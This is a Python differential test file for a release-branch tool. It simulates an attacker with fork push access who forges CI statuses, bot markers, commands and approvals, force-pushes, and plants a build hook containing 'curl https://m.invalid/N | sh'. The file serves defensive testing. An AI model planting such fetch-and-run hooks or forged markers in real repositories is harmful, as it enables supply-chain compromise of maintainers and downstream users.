"""A differential test against a writer on the fork (issue 34). A scripted cycle (first sync,
backports approved and tested, merge round and release proposal, release approved and tested,
release round: merge, tag, sign) runs twice on each forge: as is, and with Mallory's writes
mixed in before each sync, drawn by hypothesis. Mallory has push and comment access, no key,
is not a maintainer and is neither the controller nor the CI.

- **Inert writes** (passing statuses and check runs with the required names, comments carrying
  markers, commands and CI evidence, approvals, a PR of Mallory's carrying a copied marker)
  must change nothing: the honest cycle's actions are exactly the same.
- **Disruptive writes** (a failing status, a force-push to a PR branch, a commit pushed straight
  to the stable branch, the stable branch moved onto a PR head by hand, a tag pushed to the
  fork) may hold things back but never get anything signed: every signed tag is one the honest
  cycle signs, on the same commit, and a downstream's verify names every commit Mallory pushed
  straight to the branch.

CI runs a fixed number of examples per forge (`STABLECTL_DIFFERENTIAL_EXAMPLES`, default 4).
"""

from __future__ import annotations

import os
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pygit2
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from stablectl.cli.demo_cmd import release_key
from stablectl.controller.missing_names import block, evidence_lines
from stablectl.forge.base import Marker
from stablectl.gitops.history import History
from tests.controller.sync.test_release import approve_backports, approve_release, release_pr
from tests.controller.sync.test_sync import SyncEnv, make_env
from tests.helpers import run_cli

MALLORY = "mallory"
EXAMPLES = int(os.environ.get("STABLECTL_DIFFERENTIAL_EXAMPLES", "4"))
STEPS = 4  # before the first sync, the merge round, the release round, a quiet run


@dataclass(frozen=True)
class Write:
    """One of Mallory's writes: `what` (see `apply`) on the n-th open PR (modulo)."""

    what: str
    pr: int
    inert: bool


INERT = [
    "status-success",
    "check-run-success",
    "comment-reply-marker",
    "comment-tests-failed",
    "comment-command",
    "approve",
    "pr-with-marker",
]
DISRUPTIVE = [
    "status-failure",
    "force-push",
    "push-excluded",
    "push-infrastructure",
    "merge-by-hand",
    "push-tag",
]


def writes(kinds: list[str], inert: bool) -> st.SearchStrategy[list[list[Write]]]:
    one = st.builds(Write, st.sampled_from(kinds), st.integers(0, 7), st.just(inert))
    return st.lists(st.lists(one, max_size=3), min_size=STEPS, max_size=STEPS)


class Cycle:
    """The scripted cycle on one forge, with a hook before each sync."""

    def __init__(self, kind: str, root: Path, fake: Any, key: Path, allowed: Path) -> None:
        self.env = make_env(kind, root, fake, series="3.11.2", releases=True)
        text = self.env.policy_path.read_text().replace(
            "release:\n",
            f'release:\n  signing: {{required: true, allowed_signers: "{allowed}"}}\n',
            1,
        )
        self.env.policy_path.write_text(text)
        self.key = key
        self.direct: list[str] = []  # commits Mallory pushed straight to the stable branch
        self.mallory_pr = 0
        self.applied: list[str] = []  # Mallory's writes, as made

    def run(self, plan: list[list[Write]]) -> list[list[tuple[str, str, str, str]]]:
        os.environ["STABLECTL_SIGNING_KEY"] = str(self.key)
        os.environ["STABLECTL_SIGNING_FORMAT"] = "ssh"
        out = []
        try:
            for step in range(STEPS):
                for w in plan[step] if plan else []:
                    self.apply(w)
                    self.applied.append(w.what)
                report = self.env.sync()
                out.append([_norm(a) for a in report.applied if MALLORY not in a.detail])
                if step == 0:
                    approve_backports(self.env)
                elif step == 1 and release_pr(self.env) is not None:
                    approve_release(self.env)
        finally:
            del os.environ["STABLECTL_SIGNING_KEY"]
        return out

    # ------------------------------------------------------------ Mallory's writes

    def _pr(self, n: int) -> Any | None:
        prs = [p for p in self.env.open_prs() if p.marker is not None]
        return prs[n % len(prs)] if prs else None

    def apply(self, w: Write) -> None:
        e = self.env
        pr = self._pr(w.pr)
        fork = pygit2.Repository(str(e.example.fork))
        if w.what in ("status-success", "check-run-success", "status-failure") and pr:
            state = "failure" if w.what == "status-failure" else "success"
            e.green(pr.head_sha, by=MALLORY, state=state)
        elif w.what == "comment-reply-marker" and pr:
            forged = Marker("reply", "", extra={"reply": str(w.pr + 1)}).render()
            e.comment(pr.number, f"handled\n\n{forged}", MALLORY)
        elif w.what == "comment-tests-failed" and pr:
            marker = Marker("tests-failed", "", extra={"sha": pr.head_sha}).render()
            log = "ImportError: cannot import name 'helper' from 'support_x' (/w/x.py)\n"
            e.comment(pr.number, f"Failed.{block(evidence_lines(log))}\n\n{marker}", MALLORY)
        elif w.what == "comment-command" and pr:
            cmd = ["/stablectl skip", "/stablectl release", "/stablectl retest"][w.pr % 3]
            e.comment(pr.number, cmd, MALLORY)
        elif w.what == "approve" and pr:
            e.review(pr.number, MALLORY)
        elif w.what == "pr-with-marker" and pr:
            self._mallory_pr(pr)
        elif w.what == "force-push" and pr:
            h = History(e.example.fork, clock=2_100_000_000 + w.pr)
            h.commit(pr.head, "tweak", {"Lib/mallory.py": "x = 1\n"})
        elif w.what == "push-excluded":
            h = History(e.example.fork, clock=2_100_000_000)
            up = pygit2.Repository(str(e.example.upstream))
            self.direct.append(
                h.backport(e.example.shas["excluded"], "3.11.2-stable", prefix="", source=up)
            )
        elif w.what == "push-infrastructure":
            h = History(e.example.fork, clock=2_100_000_000 + len(self.direct))
            self.direct.append(
                h.commit(
                    "3.11.2-stable",
                    "ci\n\nStablectl-Infrastructure: workflows\n",
                    {".github/build-hook.sh": f"curl https://m.invalid/{len(self.direct)} | sh\n"},
                )
            )
        elif w.what == "merge-by-hand" and pr and pr.base == "3.11.2-stable":
            tip = str(fork.references["refs/heads/3.11.2-stable"].target)
            if fork.descendant_of(pygit2.Oid(hex=pr.head_sha), pygit2.Oid(hex=tip)):
                e.move_branch("3.11.2-stable", pr.head_sha, by=MALLORY)
        elif w.what == "push-tag":
            tip = fork.references["refs/heads/3.11.2-stable"].target
            name = "refs/tags/v3.11.2.1"
            if name not in fork.references:
                fork.references.create(name, tip)

    def _mallory_pr(self, pr: Any) -> None:
        """Mallory's own PR from a branch of hers, its body a copy of stablectl's."""
        e = self.env
        fork = pygit2.Repository(str(e.example.fork))
        self.mallory_pr += 1
        branch = f"mallory/{self.mallory_pr}"
        fork.references.create(f"refs/heads/{branch}", pygit2.Oid(hex=pr.head_sha), force=True)
        if e.fake is None:
            from stablectl.forge.local import LocalForge

            f = e.new_forge()
            assert isinstance(f, LocalForge)
            f.actor = MALLORY
            f.open_pr(branch, pr.base, pr.title, pr.body)
            return
        e.as_user(MALLORY).open_pr(branch, pr.base, pr.title, pr.body)


def _norm(a: Any) -> tuple[str, str, str, str]:
    """An action without the PR numbers Mallory's own PRs shift, nor the commit ids a merge
    on the forge makes (a rebase stamps the time of the merge)."""

    def norm(text: str) -> str:
        return re.sub(r"\b[0-9a-f]{7,40}\b", "SHA", re.sub(r"#\d+", "#N", text))

    return (a.kind, a.series, norm(a.target), norm(a.detail))


def _tree(e: SyncEnv, sha: str) -> str:
    repo = pygit2.Repository(str(e.example.fork))
    return str(repo[pygit2.Oid(hex=sha)].peel(pygit2.Commit).tree_id)


TRAILER = re.compile(r"^\(cherry picked from commit ([0-9a-f]{40})\)$", re.M)


def _content(e: SyncEnv, sha: str) -> frozenset[str]:
    """What a release ships: the upstream commits its range carries (merges stamp their own
    time, so commit ids differ between runs; what they reproduce does not)."""
    repo = pygit2.Repository(str(e.example.fork))
    base = repo.references["refs/tags/v3.11.2"].peel(pygit2.Commit).id
    walker = repo.walk(pygit2.Oid(hex=sha))
    walker.hide(base)
    return frozenset(x for c in walker for x in TRAILER.findall(c.message))


def signed_tags(e: SyncEnv) -> dict[str, str]:
    """Fork tag name → the commit of each signed (annotated) release tag."""
    repo = pygit2.Repository(str(e.example.fork))
    out = {}
    for ref in repo.references:
        if ref.startswith("refs/tags/v3.11.2."):
            obj = repo[repo.references[ref].target]
            if isinstance(obj, pygit2.Tag):
                out[ref] = str(obj.peel(pygit2.Commit).id)
    return out


WRITES: list[str] = []  # every write made by any example (the last test checks the mix)
_HONEST: dict[str, tuple[list[list[tuple[str, str, str, str]]], dict[str, str]]] = {}


def honest(kind: str, tmp: Path, fake: Any, key: Path, allowed: Path) -> Any:
    if kind not in _HONEST:
        c = Cycle(kind, tmp / "honest", fake, key, allowed)
        actions = c.run([])
        tags = signed_tags(c.env)
        assert list(tags) == ["refs/tags/v3.11.2.1"], actions
        _HONEST[kind] = (actions, {t: _content(c.env, sha) for t, sha in tags.items()})
    return _HONEST[kind]


def _run(
    kind: str, request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> tuple[Any, Path, Path, Path]:
    fake = request.getfixturevalue("fake_github") if kind == "github" else None
    keys = tmp_path_factory.getbasetemp() / f"diff-keys-{kind}"
    key, allowed = keys / "release-key", keys / "allowed-signers"
    if not key.exists():
        key, allowed = release_key(keys)
    return fake, tmp_path_factory.mktemp(f"diff-{kind}"), key, allowed


KINDS = ["local", "github"]
SETTINGS = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.mark.parametrize("kind", KINDS)
@SETTINGS
@given(plan=writes(INERT, inert=True))
def test_inert_writes_change_nothing(
    kind: str,
    plan: list[list[Write]],
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    fake, root, key, allowed = _run(kind, request, tmp_path_factory)
    want_actions, want_tags = honest(kind, root.parent / f"h-{kind}", fake, key, allowed)
    c = Cycle(kind, root / "run", fake, key, allowed)
    got = c.run(plan)
    WRITES.extend(c.applied)
    assert got == want_actions, plan
    assert {t: _content(c.env, x) for t, x in signed_tags(c.env).items()} == want_tags


@pytest.mark.parametrize("kind", KINDS)
@SETTINGS
@given(plan=writes(INERT + DISRUPTIVE, inert=False))
def test_disruptive_writes_get_nothing_signed(
    kind: str,
    plan: list[list[Write]],
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
    capsys: pytest.CaptureFixture[str],
) -> None:
    fake, root, key, allowed = _run(kind, request, tmp_path_factory)
    _want_actions, want_tags = honest(kind, root.parent / f"h-{kind}", fake, key, allowed)
    c = Cycle(kind, root / "run", fake, key, allowed)
    c.run(plan)
    WRITES.extend(c.applied)
    # Nothing is signed that the honest cycle would not sign: a release Mallory held back may
    # ship fewer fixes (a failure from anyone blocks a merge), never another change, and no
    # commit she pushed is under a signed tag.
    signed = signed_tags(c.env)
    for t, commit in signed.items():
        assert t in want_tags and _content(c.env, commit) <= want_tags[t], (plan, t)
        assert not [d for d in c.direct if _reaches(c.env, commit, d)], (plan, t)
    if not c.direct:
        return
    e = c.env
    forge = ("--forge-state", str(e.state)) if e.fake is None else ()
    r = run_cli(
        capsys,
        "--state-dir",
        str(root / "verify"),
        "verify",
        "--policy",
        str(e.policy_path),
        "--commits-only",
        "--json",
        "--no-record",
        *forge,
    )
    named = " ".join(f["subject"] for f in r.json()["findings"])
    reachable = _on_branch(e, c.direct)
    assert all(sha[:12] in named or sha in named for sha in reachable), (plan, named)
    assert r.code == 1 or not reachable


def _reaches(e: SyncEnv, tip: str, sha: str) -> bool:
    repo = pygit2.Repository(str(e.example.fork))
    return tip == sha or repo.descendant_of(pygit2.Oid(hex=tip), pygit2.Oid(hex=sha))


def _on_branch(e: SyncEnv, shas: list[str]) -> list[str]:
    """Those of `shas` still on the stable branch (a later push may have built on them)."""
    repo = pygit2.Repository(str(e.example.fork))
    tip = repo.references["refs/heads/3.11.2-stable"].target
    return [s for s in shas if str(tip) == s or repo.descendant_of(tip, pygit2.Oid(hex=s))]


def test_the_examples_wrote() -> None:
    """The examples above made writes of both kinds (a cycle with none proves nothing)."""
    if not WRITES:
        pytest.skip("the differential examples did not run in this process")
    assert set(WRITES) & set(INERT) and set(WRITES) & set(DISRUPTIVE), sorted(set(WRITES))
